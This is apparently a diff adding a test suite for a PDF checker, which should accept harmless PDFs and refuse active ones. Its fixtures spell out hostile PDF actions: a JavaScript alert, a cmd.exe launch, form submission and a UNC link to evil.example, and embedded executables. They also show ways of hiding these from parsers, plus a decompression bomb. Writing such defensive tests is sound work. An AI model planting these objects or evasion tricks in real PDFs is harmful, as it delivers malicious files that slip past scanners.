@@ -1,0 +1,168 @@
+import assert from 'node:assert/strict';
+import { createCipheriv } from 'node:crypto';
+import { readdirSync, readFileSync } from 'node:fs';
+import { describe, test } from 'node:test';
+import { checkPdf } from '../functions/_shared/files/check-pdf.ts';
+import { makePdf, objectStream, stream } from './support/make-pdf.ts';
+
+const samples = new URL('samples/pdf/', import.meta.url);
+
+describe('accepts a harmless PDF', () => {
+  for (const file of readdirSync(samples)) {
+    test(`written by ${file.replace('.pdf', '')}`, () =>
+      assert.equal(checkPdf(readFileSync(new URL(file, samples))), null));
+  }
+
+  const harmless: readonly (readonly [string, Buffer])[] = [
+    ['that opens at a page', makePdf('/OpenAction [3 0 R /Fit]')],
+    ['that opens with a GoTo action', makePdf('/OpenAction 4 0 R', ['<< /S /GoTo /D [3 0 R /Fit] >>'])],
+    [
+      'with a link to the web',
+      makePdf('', ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://a.example) >> >>']),
+    ],
+    ['with a form without scripts', makePdf('/AcroForm << /Fields [] >>')],
+    [
+      'with an object stream',
+      makePdf('', [
+        objectStream([
+          [7, '<< /Producer (x) >>'],
+          [8, '[1 2 3]'],
+        ]),
+      ]),
+    ],
+  ];
+  for (const [what, bytes] of harmless) test(what, () => assert.equal(checkPdf(bytes), null));
+
+  test('with random streams, 500 times', () => {
+    // A cipher with a fixed key: looks random, and is the same in each run.
+    const random = createCipheriv('aes-128-ctr', Buffer.alloc(16), Buffer.alloc(16));
+    const refused = Array.from({ length: 500 }, () =>
+      checkPdf(makePdf('', [stream(random.update(Buffer.alloc(200_000)))])),
+    ).filter((fault) => fault !== null);
+    assert.deepEqual(refused, []);
+  });
+});
+
+describe('refuses a hostile PDF', () => {
+  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
+
+  const harms: readonly (readonly [string, string])[] = [
+    ['a script', script],
+    ['a script in a stream', '<< /S /JavaScript /JS 9 0 R >>'],
+    ['a program launch', '<< /S /Launch /F (cmd.exe) >>'],
+    ['a form submission', '<< /S /SubmitForm /F (https://evil.example) >>'],
+    ['imported data', '<< /S /ImportData /F (x.fdf) >>'],
+    ['a link to another file', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'],
+    ['a link to an embedded file', '<< /S /GoToE /T << /N (x) >> >>'],
+    ['an attachment', '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>'],
+    ['an attached stream', '<< /Type /EmbeddedFile /Length 0 >>'],
+    ['media', '<< /Subtype /RichMedia /RichMediaContent << >> >>'],
+    ['an XFA form', '<< /Fields [] /XFA 9 0 R >>'],
+    ['an action on an event', '<< /AA << /O 9 0 R >> >>'],
+    ['scripts by name', '<< /JavaScript << /Names [(x) 9 0 R] >> >>'],
+    ['a script in a list', `[ 1 [ ${script} ] ]`],
+  ];
+  const escapeNames = (object: string) =>
+    object.replaceAll(
+      /\/(\w)(\w+)/g,
+      (_, first: string, rest: string) =>
+        `/${first}${[...rest].map((character) => `#${character.charCodeAt(0).toString(16).toUpperCase()}`).join('')}`,
+    );
+  const addComments = (object: string) => object.replaceAll(' ', ' % >> endobj\r\f\0');
+  const removeSpaces = (object: string) => object.replaceAll(/ (?=[/<([])|(?<=[<[]) | (?=[>\]])/g, '');
+  const replace = (object: Buffer, from: string, to: string) =>
+    Buffer.from(
+      object.toString('latin1').replace(from, () => to),
+      'latin1',
+    );
+  const hidings: readonly (readonly [string, (object: string) => Buffer])[] = [
+    ['plain', (object) => makePdf('/A 4 0 R', [object])],
+    ['inside the catalogue', (object) => makePdf(`/A ${object}`)],
+    ['with escaped names', (object) => makePdf('/A 4 0 R', [escapeNames(object)])],
+    ['between comments', (object) => makePdf('/A 4 0 R', [addComments(object)])],
+    ['without spaces', (object) => makePdf('/A 4 0 R', [removeSpaces(object)])],
+    [
+      'after a string with brackets',
+      (object) => makePdf('/A 4 0 R', [`[ (\\)>>]( endobj)) <28> ${object} ]`]),
+    ],
+    ['in an object stream', (object) => makePdf('/A 7 0 R', [objectStream([[7, object]])])],
+    [
+      'in an object stream without a type',
+      (object) => makePdf('/A 7 0 R', [objectStream([[7, object]], { type: '' })]),
+    ],
+    [
+      'in an object stream with a wrong length',
+      (object) => makePdf('/A 7 0 R', [objectStream([[7, object]], { length: 3 })]),
+    ],
+    [
+      'in an object stream after a comment',
+      (object) => makePdf('/A 7 0 R', [replace(objectStream([[7, object]]), '>>\nstream', '>>%\nstream')]),
+    ],
+    [
+      'in an object stream with escaped names',
+      (object) => makePdf('/A 7 0 R', [objectStream([[7, escapeNames(object)]])]),
+    ],
+    [
+      'in an uncompressed object stream',
+      (object) => makePdf('/A 7 0 R', [stream(`7 0 ${object}`, '/N 1 /First 4')]),
+    ],
+    [
+      'inside the bytes of a picture',
+      (object) => makePdf('/A 7 0 R', [stream(`xx\n7 0 obj ${object} endobj`, '/Subtype /Image')]),
+    ],
+    [
+      'in an appended revision',
+      (object) => Buffer.concat([makePdf(''), Buffer.from(`7 0 obj${object}endobj`)]),
+    ],
+    ['in the trailer', (object) => makePdf('', [], `/A ${object}`)],
+  ];
+  /** These names are so short that any picture or font may contain them, so they only count outside of streams. */
+  const isShort = (what: string) => /^(an attachment|an XFA form)$|event/.test(what);
+  for (const [hiding, hide] of hidings) {
+    test(hiding, () => {
+      const accepted = harms
+        .filter(([what]) => !isShort(what) || !/uncompressed|inside the bytes/.test(hiding))
+        .filter(([, object]) => checkPdf(hide(object)) !== 'active');
+      assert.deepEqual(
+        accepted.map(([what]) => what),
+        [],
+      );
+    });
+  }
+
+  const others: readonly (readonly [string, Buffer, string])[] = [
+    ['with a password', makePdf('', [], '/Encrypt << /Filter /Standard >>'), 'protected'],
+    [
+      'with an unknown compression',
+      makePdf('', [stream('x', '/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]')]),
+      'damaged',
+    ],
+    [
+      'with damaged compression',
+      makePdf('', [stream('xxxx', '/N 1 /First 4 /Filter /FlateDecode')]),
+      'damaged',
+    ],
+  ];
+  for (const [what, bytes, fault] of others) test(what, () => assert.equal(checkPdf(bytes), fault));
+
+  test('within five seconds of CPU time, whatever its structure', () => {
+    const started = process.cpuUsage();
+    for (const piece of [
+      'obj(',
+      'obj[',
+      '1 0 obj<</A(',
+      'obj ',
+      'trailer(',
+      '1 0 obj<</First 1/Filter/Fl>>stream\n',
+      '1 0 obj<</First 0/Length 0>>stream\n',
+      '1 0 obj<<>>%',
+      '9',
+    ]) {
+      checkPdf(Buffer.from(`%PDF-1.7\n${piece.repeat(Math.ceil(4_000_000 / piece.length))}`));
+    }
+    const bomb = objectStream([[7, ' '.repeat(100_000_000)]]);
+    assert.equal(checkPdf(makePdf('', [bomb])), 'damaged');
+    // CPU time, because other processes may run at the same time.
+    assert.ok(process.cpuUsage(started).user < 5_000_000);
+  });
+});
